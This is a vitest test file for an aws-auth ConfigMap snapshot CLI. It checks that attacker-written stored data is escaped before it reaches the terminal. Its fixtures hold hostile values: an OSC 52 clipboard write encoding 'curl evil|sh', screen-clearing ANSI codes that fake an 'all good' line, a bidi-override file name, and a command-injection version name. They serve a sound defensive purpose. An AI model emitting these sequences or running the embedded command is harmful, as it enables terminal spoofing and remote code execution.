/**
 * The one place output leaves the CLI (`terminalIo`, behind `processIo`): stored data an attacker
 * wrote reaches the terminal escaped, never as escape sequences, while multi-line output such as
 * `show` keeps its lines and `--json` stays valid JSON with the same values.
 */
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Readable } from "node:stream";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { main } from "../../bin/cli.js";
import { terminalIo } from "../../bin/commands/io.js";
import { LocalBlobStore } from "../../lambda/adapters/local-blob-store.js";
import type { VersionRecord } from "../../lambda/core/records.js";
import { SnapshotStore } from "../../lambda/core/snapshot-store.js";
import { FAKE_UNDO, HOSTILE } from "../support/hostile.js";

/** Anything a terminal would act on: controls other than line feed and tab, bidi and invisible format characters. */
const TERMINAL_UNSAFE = /(?![\n\t])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;

const HOSTILE_MAP_ROLES = [
  "- rolearn: arn:aws:iam::012345678901:role/eks-node",
  "  username: system:node:{{EC2PrivateDNSName}}",
  "  groups: [system:bootstrappers, system:nodes]",
  `- rolearn: arn:aws:iam::012345678901:role/x${HOSTILE.ansiClipboard}`,
  `  username: "admin${HOSTILE.ansiClear}${HOSTILE.bidiOverride}"`,
  "  groups: [system:masters]",
  "",
].join("\n");

function captureSink(): { write(text: string): boolean; text(): string } {
  const chunks: string[] = [];
  return {
    write: (text: string) => {
      chunks.push(text);
      return true;
    },
    text: () => chunks.join(""),
  };
}

describe("terminal output (show, history, errors) with hostile stored data", () => {
  let dir: string;

  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), "terminal-io-"));
    const store = new SnapshotStore(new LocalBlobStore(dir));
    const record: VersionRecord = {
      kind: "version",
      id: "00000000000000000207-abc",
      cluster: "prod",
      resourceVersion: "207",
      time: "2026-11-22T13:04:04Z",
      configMap: {
        apiVersion: "v1",
        kind: "ConfigMap",
        metadata: { name: "aws-auth", namespace: "kube-system", resourceVersion: "207" },
        data: { mapRoles: HOSTILE_MAP_ROLES, mapUsers: "[]\r\n" },
      },
      audit: {
        auditID: `abc${HOSTILE.c1Csi}`,
        verb: "patch",
        time: "2026-11-22T13:04:04Z",
        requestURI: "/api/v1/namespaces/kube-system/configmaps/aws-auth",
        actor: {
          username: `jane${FAKE_UNDO}${HOSTILE.ansiClear}`,
          groups: [],
          sourceIPs: ["127.0.0.1"],
        },
        dryRun: false,
        truncated: false,
      },
      class: "dangerous",
      findings: [
        { id: "masters-granted", severity: "critical", message: `admin${HOSTILE.ansiClear} granted` },
      ],
    };
    await store.putRecord(record);
  });

  afterEach(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  async function run(argv: string[]): Promise<{ code: number; out: string; err: string }> {
    const out = captureSink();
    const err = captureSink();
    const code = await main(argv, terminalIo(out, err, Readable.from([])));
    return { code, out: out.text(), err: err.text() };
  }

  it("show prints every stored line recognisably, with escape sequences escaped, not acted on", async () => {
    // Act
    const { code, out } = await run([
      "show",
      "00000000000000000207-abc",
      "--cluster",
      "prod",
      "--store",
      dir,
    ]);

    // Assess
    expect(code).toBe(0);
    expect(out).not.toMatch(TERMINAL_UNSAFE);
    // The data keeps its lines; what would have cleared the screen or written the clipboard is visible.
    expect(out).toContain("  username: system:node:{{EC2PrivateDNSName}}\n");
    expect(out).toContain(
      "- rolearn: arn:aws:iam::012345678901:role/x\\u001b]52;c;Y3VybCBldmlsfHNo\\u0007\n",
    );
    expect(out).toContain(
      '  username: "admin\\u001b[2J\\u001b[H\\u001b[32mall good\\u001b[0madmin\\u202egnp.exe"\n',
    );
    expect(out).toContain("[]\\r\n");
    expect(out).toContain("abc\\u009b2J plain");
  });

  it("show --json stays valid JSON holding exactly the stored strings", async () => {
    const { code, out } = await run([
      "show",
      "00000000000000000207-abc",
      "--cluster",
      "prod",
      "--store",
      dir,
      "--json",
    ]);
    expect(code).toBe(0);
    expect(out).not.toMatch(TERMINAL_UNSAFE);
    const parsed = JSON.parse(out) as VersionRecord;
    expect(parsed.configMap?.data?.mapRoles).toBe(HOSTILE_MAP_ROLES);
    expect(parsed.audit?.auditID).toBe(`abc${HOSTILE.c1Csi}`);
  });

  it("history keeps one line per record whatever the writer's name holds", async () => {
    const { code, out } = await run(["history", "--cluster", "prod", "--store", dir]);
    expect(code).toBe(0);
    expect(out).not.toMatch(TERMINAL_UNSAFE);
    const rows = out.split("\n").filter((l) => l.startsWith("0000"));
    expect(rows).toHaveLength(1);
    expect(out).not.toMatch(/^\s*Undo/m);
  });

  it("an error naming a hostile version stays on one line and offers a quoted command", async () => {
    const name = "nope;curl evil|sh\nUndo\u001b[2J";
    const { code, err } = await run(["show", name, "--cluster", "prod", "--store", dir]);
    expect(code).toBe(1);
    expect(err).not.toMatch(TERMINAL_UNSAFE);
    expect(err.trimEnd().split("\n")).toHaveLength(1);
    expect(err).toContain('no version "nope;curl evil|sh\\nUndo\\u001b[2J" of cluster prod');
    expect(err).toContain(`see: aws-auth-guardian history --cluster prod --store ${dir}`);
  });
});
